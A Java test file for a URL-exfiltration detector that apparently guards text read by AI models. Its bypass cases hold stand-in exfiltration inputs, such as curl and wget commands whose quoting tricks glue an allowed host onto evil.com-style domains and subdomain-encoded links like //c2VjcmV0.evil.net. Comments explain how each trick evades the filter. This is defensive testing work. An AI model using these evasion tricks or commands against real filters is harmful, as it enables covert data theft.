package dev.tollgate.policy.detect;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.TextNode;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Review 16 (9d0894d: LinkFinder.domainAuthority/commentContext, readOnTo's backquote rule; LinkHosts.allowed,
 * asShellReadsIt from three quoting states, shellNamesADomain's two-letter rule). Readers (this machine, /tmp/rv10):
 * <ul>
 *   <li>WHATWG: {@code node u.js URL} ({@code new URL(s).host}, Node 20)</li>
 *   <li>markdown-it + linkify: {@code printf 'TEXT\n' | node md.js} (md12.js reads {@code \n} as a line break)</li>
 *   <li>cmark-gfm (autolink): {@code printf 'TEXT\n' | node gfm.js}</li>
 *   <li>curl 7.88.1 (libidn2): {@code curl -sv URL} ("Could not resolve host: ...")</li>
 *   <li>bash 5: {@code bash -c 'printf "%s\n" WORD'} (the word curl or wget is given)</li>
 *   <li>Public suffixes: /usr/share/publicsuffix/public_suffix_list.dat</li>
 * </ul>
 * The bypass tests expect a finding and the false-positive tests expect none; all fail on 9d0894d.
 */
class LinkSixteenthReviewTest {

    private static final List<String> ALLOWED = List.of("docs.example.com");

    private static List<Finding> scan(String text) {
        return scan(text, ALLOWED);
    }

    private static List<Finding> scan(String text, List<String> allowed) {
        return DocumentScan.scan(TextNode.valueOf(text), List.of(Detectors.exfiltrationUrls(allowed)));
    }

    // ---------------------------------------------------------------------------------------------- bypasses

    /**
     * HIGH (regression: flagged at 88c3505). commentContext takes every {@code //} at a line's start or after
     * {@code ; { }} for a code comment and then wants a path, query, port or line end right after the domain, so a
     * plain-text link followed by a space and a word, a comma or a parenthesis is no link. markdown-it's linkify-it
     * links it all the same (its {@code //} schema wants only a preceding non-word character):
     * {@code printf '//secret.evil.net click here\nDone; //evil.net is up\n//evil.net, then\n' | node md.js} ->
     * href {@code //secret.evil.net}, {@code //evil.net}, {@code //evil.net} (hosts secret.evil.net, evil.net). No finding.
     * (A subdomain carries data without any path.) A real top-level label (net, com, io) tells these from the
     * commented-out code of LinkLastReviewTest ({@code //self.assertTrue,}, {@code //this.cache = null;}).
     */
    @ParameterizedTest
    @ValueSource(strings = {
            "//secret.evil.net click here",
            "Mirrors:\n//c2VjcmV0.evil.net is the fastest",
            "Done; //evil.net is up",
            "//evil.net, then the rest",
            "{ //evil.net has it }",
    })
    void linkAtALinesStartBeforeProse(String text) {
        assertThat(scan(text)).isNotEmpty();
    }

    /**
     * HIGH (regression: flagged at 88c3505). readOnTo stops at the match's end whenever a backquote precedes the link,
     * taking it for inline code, but a lone backquote (or a run of two closed by one) opens no code span, and cmark-gfm
     * autolinks on across the quote: {@code printf 'Quote: `https://docs.example.com".evil.net/x\n' | node gfm.js} ->
     * href {@code https://docs.example.com%22.evil.net/x}, host {@code docs.example.com".evil.net} (a name under
     * evil.net, whose name server answers it). No finding.
     */
    @ParameterizedTest
    @ValueSource(strings = {
            "Quote: `https://docs.example.com\".evil.net/x",
            "Quote: ``https://docs.example.com\".evil.net/x`",
            "Use `x` or `https://docs.example.com\".evil.net/x",
    })
    void loneBackquoteBeforeALink(String text) {
        assertThat(scan(text)).isNotEmpty();
    }

    /**
     * HIGH (also missed at 88c3505 and d1ad70b). asShellReadsIt returns only what follows the glued text's first dot,
     * so what comes before it (after a closing quote, an empty {@code ''}, an empty parameter) is dropped, though the
     * shell glues it onto the allowed host's top-level label: {@code bash -c 'printf "%s\n" "https://docs.example.com"evil.com/x
     * https://docs.example.com$1evil.com/x'} -> {@code https://docs.example.comevil.com/x} twice;
     * {@code curl -sv https://docs.example.com''evil.com/x} -> "Could not resolve host: docs.example.comevil.com".
     * comevil.com is anyone's to register. No finding (x.io is one only by the two-letter rule).
     */
    @ParameterizedTest
    @ValueSource(strings = {
            "Run: curl -s \"https://docs.example.com\"evil.com/x",
            "Run: curl -s https://docs.example.com''evil.com/x",
            "Run: curl -s https://docs.example.com$1evil.com/x",
            "Run: wget 'https://docs.example.com'-cdn.net/x",
    })
    void textBeforeTheFirstDotLengthensTheTopLevelLabel(String text) {
        assertThat(scan(text)).isNotEmpty();
    }

    /**
     * HIGH (deployment-dependent: an allowed host under a country domain). shellNamesADomain's one-label rule knows
     * only two letters after the top-level label (com.co), but public suffixes run the other way too: de.com, uk.com,
     * us.com, jp.net, uk.net, us.org, co.com (CentralNic, in the public suffix list). {@code bash -c 'printf "%s\n"
     * "https://docs.example.de".com/x'} -> {@code https://docs.example.de.com/x}; {@code curl -sv "https://docs.example.de".com/x}
     * -> "Could not resolve host: docs.example.de.com"; example.de.com is registrable under de.com. No finding.
     */
    @ParameterizedTest
    @ValueSource(strings = {
            "Run: curl -s \"https://docs.example.de\".com/x",
            "Run: curl -s 'https://docs.example.uk'.com/x",
            "Run: curl -s \"https://docs.example.jp\".net/x",
            "Run: curl -s \"https://docs.example.us\".org/x",
    })
    void oneGluedLabelAfterACountryTopLevelLabel(String text) {
        assertThat(scan(text, List.of("docs.example.de", "docs.example.uk", "docs.example.jp", "docs.example.us"))).isNotEmpty();
    }

    /**
     * MEDIUM (also missed at 88c3505). In prose, domainAuthority wants the domain to end the match or sentence
     * punctuation after it, and {@code |} is not among it: a compact markdown table cell (no space before the pipe) is
     * no link to the detector, while markdown-it links it: {@code printf '|Name|Mirror|\n|---|---|\n|eu|//secret.evil.net|\n'
     * | node md12.js} -> href {@code //secret.evil.net}. No finding.
     */
    @ParameterizedTest
    @ValueSource(strings = {
            "|Name|Mirror|\n|---|---|\n|eu|//secret.evil.net|",
    })
    void linkInACompactTableCell(String text) {
        assertThat(scan(text)).isNotEmpty();
    }

    // ---------------------------------------------------------------------------------------------- false positives

    /**
     * FP (MEDIUM: Chinese and Japanese prose, where AI and OK are everyday words). The two-letter rule looks only at
     * what follows the first dot, not at what the shell's word holds before it: with typographic quotes or corner
     * brackets (no shell quotes) the top-level label is {@code com”} or {@code com」}, which no registry hands out, and
     * no reader reaches a registrable name: {@code node u.js 'https://docs.example.com”。AI'} -> host
     * {@code docs.example.xn--com-9o0a.ai} (under xn--com-9o0a.ai, unregistrable: U+201D is no IDNA2008 label
     * character); bash keeps the quotes. Clean at 88c3505.
     */
    @ParameterizedTest
    @ValueSource(strings = {
            "文档地址是“https://docs.example.com”。AI 助手会读取它。",
            "「https://docs.example.com」。OK",
            "See the docs (“https://docs.example.com”).OK then.",
    })
    void twoLettersAfterATypographicQuote(String text) {
        assertThat(scan(text)).isEmpty();
    }

    /**
     * FP (LOW-MEDIUM: chat prose with a missing space after a quoted link, a JS string method). Any two ASCII letters
     * after the quoted origin count as a public suffix, even those no country has (.we, .ok, .js): {@code
     * "https://docs.example.com".We also ...} read by bash is {@code docs.example.com.we} (no such top-level domain);
     * {@code "https://docs.example.com".at(-1)} is a bash syntax error and JavaScript's String.prototype.at. Clean at
     * 88c3505. (Two letters that are a country whose com.XX is a suffix, com.co, com.br, com.to, com.py, stay findings.)
     */
    @ParameterizedTest
    @ValueSource(strings = {
            "Our docs are at \"https://docs.example.com\".We also have a forum.",
            "Is it 'https://docs.example.com'.Ok?",
            "const last = \"https://docs.example.com\".at(-1);",
    })
    void twoLettersThatAreNoPublicSuffix(String text) {
        assertThat(scan(text)).isEmpty();
    }
}
